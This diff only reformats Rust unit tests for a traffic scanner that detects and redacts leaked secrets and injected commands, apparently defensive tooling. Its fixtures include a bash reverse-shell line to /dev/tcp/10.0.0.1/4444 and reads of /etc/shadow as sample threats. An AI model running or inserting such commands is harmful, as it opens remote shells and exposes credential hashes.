@@ -81,7 +81,10 @@ fn fake_aws() -> String {
     let mut b = [0u8; 16];
     getrandom::fill(&mut b).unwrap();
     let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
-    let mut s: String = b.iter().map(|x| char::from(alphabet[usize::from(x % 32)])).collect();
+    let mut s: String = b
+        .iter()
+        .map(|x| char::from(alphabet[usize::from(x % 32)]))
+        .collect();
     s.replace_range(0..2, "Q7");
     format!("AKIA{s}")
 }
@@ -90,7 +93,10 @@ fn assert_no_leak(findings: &[Finding], secret: &str) {
     let json = serde_json::to_string(findings).unwrap();
     let random = &secret[4..];
     for i in 0..=random.len() - 8 {
-        assert!(!json.contains(&random[i..i + 8]), "leaked piece of the secret: {json}");
+        assert!(
+            !json.contains(&random[i..i + 8]),
+            "leaked piece of the secret: {json}"
+        );
     }
 }
 
@@ -98,14 +104,25 @@ fn assert_no_leak(findings: &[Finding], secret: &str) {
 fn finds_and_redacts_a_key_in_json_with_every_terminator() {
     let d = detector(1 << 20);
     let key = fake_aws();
-    for tmpl in ["{\"k\":\"KEY\"}", "?a=KEY&b=1", "KEY/path", "KEY%20x", "KEY,", "KEY"] {
+    for tmpl in [
+        "{\"k\":\"KEY\"}",
+        "?a=KEY&b=1",
+        "KEY/path",
+        "KEY%20x",
+        "KEY,",
+        "KEY",
+    ] {
         let text = tmpl.replace("KEY", &key);
         let f = d.scan_text(&out_ctx("paste.example:443"), "body", text.as_bytes());
         assert_eq!(f.len(), 1, "{tmpl}");
         assert_eq!(f[0].pattern, "test_aws_key");
         assert_eq!(f[0].threat_type, ThreatType::Exfil);
         assert_eq!(f[0].fingerprint.len(), 16);
-        assert!(f[0].snippet.contains("[REDACTED:test_aws_key]"), "{}", f[0].snippet);
+        assert!(
+            f[0].snippet.contains("[REDACTED:test_aws_key]"),
+            "{}",
+            f[0].snippet
+        );
         assert_no_leak(&f, &key);
     }
 }
@@ -114,7 +131,9 @@ fn finds_and_redacts_a_key_in_json_with_every_terminator() {
 fn allow_listed_example_and_embedded_runs_do_not_fire() {
     let d = detector(1 << 20);
     let text = format!("AKIAIOSFODNN7EXAMPLE x{}", fake_aws());
-    assert!(d.scan_text(&out_ctx("x:80"), "body", text.as_bytes()).is_empty());
+    assert!(d
+        .scan_text(&out_ctx("x:80"), "body", text.as_bytes())
+        .is_empty());
 }
 
 #[test]
@@ -126,7 +145,11 @@ fn direction_scoping_keeps_exfil_rules_off_inbound_traffic() {
     let f = d.scan_text(&ctx, "body", b"run: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
     assert_eq!(f.len(), 1);
     assert_eq!(f[0].threat_type, ThreatType::Injection);
-    assert!(f[0].snippet.contains("/dev/tcp/10.0.0.1/4444"), "{}", f[0].snippet);
+    assert!(
+        f[0].snippet.contains("/dev/tcp/10.0.0.1/4444"),
+        "{}",
+        f[0].snippet
+    );
 }
 
 #[test]
@@ -134,7 +157,11 @@ fn expected_destination_suppresses_only_there_and_still_redacts() {
     let d = detector(1 << 20);
     let key = "tk-Abcdefghijklmnopqrstuv12";
     let body = format!("x-key: {key} and /etc/shadow");
-    for dest in ["api.provider.test:443", "eu.provider-cdn.test:443", "provider-cdn.test:443"] {
+    for dest in [
+        "api.provider.test:443",
+        "eu.provider-cdn.test:443",
+        "provider-cdn.test:443",
+    ] {
         let f = d.scan_text(&out_ctx(dest), "body", body.as_bytes());
         assert_eq!(f.len(), 1, "{dest}: {f:?}");
         assert_eq!(f[0].pattern, "test_shadow_path");
@@ -171,7 +198,10 @@ fn decoded_views_reveal_hidden_secrets_once_with_their_chain() {
         assert_no_leak(&f, &key);
     }
     // Seen raw and through a view: one finding, the raw one.
-    let text = format!("{key} {}", base64::engine::general_purpose::STANDARD.encode(format!("k={key} again")));
+    let text = format!(
+        "{key} {}",
+        base64::engine::general_purpose::STANDARD.encode(format!("k={key} again"))
+    );
     let f = d.scan_text(&out_ctx("x:443"), "body", text.as_bytes());
     assert_eq!(f.len(), 1);
     assert_eq!(f[0].decoded, None);
@@ -267,7 +297,8 @@ fn scan_message_honours_content_encoding_and_dedups_head_and_body() {
     let d = detector(1 << 20);
     let key = fake_aws();
     let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
-    e.write_all(format!("{{\"k\":\"{key}\"}}").as_bytes()).unwrap();
+    e.write_all(format!("{{\"k\":\"{key}\"}}").as_bytes())
+        .unwrap();
     let gz = e.finish().unwrap();
     let url = format!("http://x/?k={key}");
     let head = MessageHead {
@@ -287,8 +318,21 @@ fn findings_serialize_to_the_v1_schema() {
     let f = d.scan_text(&out_ctx("x:80"), "body", b"cat /etc/shadow");
     let v: serde_json::Value = serde_json::to_value(&f[0]).unwrap();
     for key in [
-        "schema_version", "platform", "direction", "protocol", "threat_type", "pattern", "severity",
-        "source", "dest", "snippet", "timestamp", "id", "location", "fingerprint", "count",
+        "schema_version",
+        "platform",
+        "direction",
+        "protocol",
+        "threat_type",
+        "pattern",
+        "severity",
+        "source",
+        "dest",
+        "snippet",
+        "timestamp",
+        "id",
+        "location",
+        "fingerprint",
+        "count",
     ] {
         assert!(v.get(key).is_some(), "missing {key}");
     }
